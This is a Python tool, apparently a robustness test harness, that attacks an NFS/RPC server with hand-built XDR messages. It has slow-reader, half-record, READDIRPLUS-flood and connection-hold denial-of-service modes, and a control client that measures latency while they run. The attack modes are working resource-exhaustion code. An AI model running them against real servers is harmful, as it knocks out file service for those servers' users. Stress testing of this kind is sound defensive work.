#!/usr/bin/python3
"""rpcabuse: resource-abuse clients for the RPC core, and the control client
that measures what everyone else sees meanwhile.

    rpcabuse.py [--host H] MODE [options]

Every message is built by hand (rpcjunk.py's helpers, RFC 5531 and RFC
1813 XDR); nothing here trusts an RPC library.

Modes:
  control --fh HEX [--secs S] [--interval I] [--out FILE]
      every I seconds (0.25) for S seconds, three calls, each on a fresh
      TCP connection with a 10 s timeout: PMAP GETPORT (mountd v3 tcp) to
      port 111, MOUNT NULL to the port it names, NFS v3 GETATTR of HEX to
      port 2049. One line per round to FILE (or stdout):
        round T getport=SECS mnt=SECS getattr=SECS
      (a failed call shows as "fail:REASON"), and a last line
        control rounds=N fails=F max=SECS p50=SECS p99=SECS
      Exits 0 when it ran (the caller judges the figures), 2 if it could
      not start.
  slow-readers N --fh HEX [--depth K] [--secs S]
      N connections to nfsd, each sending K (16) pipelined 1 MiB READs of
      HEX and never reading a reply; held S seconds, then closed.
  half-records N [--size BYTES] [--port P] [--secs S]
      N connections each sending BYTES (1.06 MiB) of a record that
      declares more and never finishing it; held S seconds, then closed.
  rdp-flood N --fh HEX [--secs S]
      N connections each repeating READDIRPLUS of directory HEX with
      dircount and maxcount 0xffffffff, reading every reply, for S seconds.
  conn-hold N [--port P] [--secs S]
      N idle connections, held S seconds, then closed.
Attack modes print "MODE: ..." counts when done.
"""
import argparse
import os
import resource
import select
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rpcjunk as rj  # noqa: E402

NFS_PROG, MOUNT_PROG, PMAP_PROG = 100003, 100005, 100000
GETATTR, READ, READDIRPLUS = 1, 6, 17
MIB = 1024 * 1024


def fh_arg(hexstr):
    return rj.opaque(bytes.fromhex(hexstr))


def nfs_call(proc, args):
    return rj.record(rj.call_msg(rj.new_xid(), prog=NFS_PROG, vers=3,
                                 proc=proc, cred=rj.auth_sys(), args=args))


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = max(soft, n + 64)
    if hard != resource.RLIM_INFINITY and want > hard:
        want = hard
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def connect(host, port, timeout=10):
    s = socket.create_connection((host, port), timeout)
    s.settimeout(timeout)
    return s


def call_once(host, port, msg, timeout):
    """One call on a fresh connection; its latency, or raise."""
    t0 = time.monotonic()
    s = connect(host, port, timeout)
    global LAST_CONNECT
    LAST_CONNECT = time.monotonic() - t0
    try:
        s.sendall(msg)
        rep = rj.Reply(rj.read_record(s, t0 + timeout))
    finally:
        s.close()
    if not (rep.accepted and rep.stat == 0):
        raise ValueError(str(rep))
    return time.monotonic() - t0, rep


LAST_CONNECT = 0.0


# ------------------------------------------------------------------ control
def m_control(a):
    out = open(a.out, "w", buffering=1) if a.out else sys.stdout
    lat, fails, rounds = [], 0, 0
    end = time.monotonic() + a.secs
    getattr_msg = lambda: nfs_call(GETATTR, fh_arg(a.fh))  # noqa: E731
    while time.monotonic() < end:
        t_round = time.monotonic()
        row = []
        mport = None
        # PMAP GETPORT of MOUNT v3 over TCP
        try:
            args = rj.u32(MOUNT_PROG, 3, 6, 0)
            dt, rep = call_once(a.host, 111, rj.record(rj.call_msg(
                rj.new_xid(), prog=PMAP_PROG, vers=2, proc=3, args=args)), 10)
            (mport,) = struct.unpack(">I", rep.body[:4])
            row.append("getport=%.3f" % dt)
            lat.append(dt)
        except Exception as e:  # noqa: BLE001 (any failure is a result)
            row.append("getport=fail:%s" % type(e).__name__)
            fails += 1
        if mport:
            try:
                dt, _ = call_once(a.host, mport, rj.record(rj.call_msg(
                    rj.new_xid(), prog=MOUNT_PROG, vers=3, proc=0)), 10)
                row.append("mnt=%.3f" % dt)
                lat.append(dt)
            except Exception as e:  # noqa: BLE001
                row.append("mnt=fail:%s" % type(e).__name__)
                fails += 1
        try:
            dt, _ = call_once(a.host, a.nfs_port, getattr_msg(), 10)
            row.append("getattr=%.3f" % dt)
            if dt > 0.1:
                row.append("(connect %.3f)" % LAST_CONNECT)
            lat.append(dt)
        except Exception as e:  # noqa: BLE001
            row.append("getattr=fail:%s" % type(e).__name__)
            fails += 1
        rounds += 1
        out.write("round %.2f %s\n" % (t_round, " ".join(row)))
        left = a.interval - (time.monotonic() - t_round)
        if left > 0:
            time.sleep(left)
    lat.sort()

    def pct(p):
        return lat[min(len(lat) - 1, int(p * len(lat)))] if lat else -1
    out.write("control rounds=%d fails=%d max=%.3f p50=%.3f p99=%.3f\n" %
              (rounds, fails, lat[-1] if lat else -1, pct(0.5), pct(0.99)))
    return 0


# ------------------------------------------------------------------ attacks
def open_many(a, n, port):
    raise_nofile(n)
    socks = []
    for _ in range(n):
        try:
            s = connect(a.host, port, 10)
        except OSError as e:
            print("%s: connect %d: %s" % (a.mode, len(socks), e))
            break
        socks.append(s)
    return socks


def hold_and_close(a, socks):
    time.sleep(a.secs)
    closed = 0
    for s in socks:
        # a peer that went away without reading: the server sees a reset
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                         struct.pack("ii", 1, 0))
        except OSError:
            pass
        s.close()
        closed += 1
    return closed


def m_slow_readers(a):
    socks = open_many(a, a.n, a.nfs_port)
    msg = b"".join(nfs_call(READ, fh_arg(a.fh) + struct.pack(">QI", 0, MIB))
                   for _ in range(a.depth))
    sent = 0
    for s in socks:
        s.setblocking(False)
        try:
            sent += s.send(msg)
        except OSError:
            pass
    print("slow-readers: %d connections, %d bytes of READ calls sent" %
          (len(socks), sent), flush=True)
    print("slow-readers: closed %d" % hold_and_close(a, socks))
    return 0


def m_half_records(a):
    socks = open_many(a, a.n, a.port or a.nfs_port)
    size = a.size
    mark = struct.pack(">I", rj.LAST_FRAG | (size + 1024))
    head = rj.call_msg(rj.new_xid(), prog=NFS_PROG, vers=3, proc=7,
                       cred=rj.auth_sys())
    payload = mark + head + b"\0" * (size - len(head))
    done = 0
    for s in socks:
        s.settimeout(10)
        try:
            s.sendall(payload)
            done += 1
        except OSError:
            pass
    print("half-records: %d of %d connections sent %d bytes each" %
          (done, len(socks), size), flush=True)
    print("half-records: closed %d" % hold_and_close(a, socks))
    return 0


def m_rdp_flood(a):
    end = time.monotonic() + a.secs
    counts = []
    lock = threading.Lock()

    def worker():
        n = 0
        try:
            s = connect(a.host, a.nfs_port, 30)
            while time.monotonic() < end:
                args = fh_arg(a.fh) + struct.pack(">Q8sII", 0, b"\0" * 8,
                                                   0xFFFFFFFF, 0xFFFFFFFF)
                s.sendall(nfs_call(READDIRPLUS, args))
                rj.read_record(s, time.monotonic() + 30, limit=64 * MIB)
                n += 1
            s.close()
        except Exception as e:  # noqa: BLE001
            print("rdp-flood: a connection ended: %s" % e)
        with lock:
            counts.append(n)
    threads = [threading.Thread(target=worker) for _ in range(a.n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print("rdp-flood: %d connections, %d READDIRPLUS answered" %
          (len(counts), sum(counts)))
    return 0


def m_conn_hold(a):
    socks = open_many(a, a.n, a.port or a.nfs_port)
    print("conn-hold: %d connections" % len(socks), flush=True)
    print("conn-hold: closed %d" % hold_and_close(a, socks))
    return 0


MODES = {"control": m_control, "slow-readers": m_slow_readers,
         "half-records": m_half_records, "rdp-flood": m_rdp_flood,
         "conn-hold": m_conn_hold}


def main():
    p = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=sorted(MODES))
    p.add_argument("n", type=int, nargs="?", default=1)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--nfs-port", type=int, default=2049)
    p.add_argument("--port", type=int, default=0)
    p.add_argument("--fh", default="")
    p.add_argument("--secs", type=float, default=10)
    p.add_argument("--interval", type=float, default=0.25)
    p.add_argument("--depth", type=int, default=16)
    p.add_argument("--size", type=int, default=1111490)
    p.add_argument("--out")
    a = p.parse_args()
    if a.mode in ("control", "slow-readers", "rdp-flood") and not a.fh:
        p.error("--fh is needed")
    return MODES[a.mode](a)


if __name__ == "__main__":
    sys.exit(main())
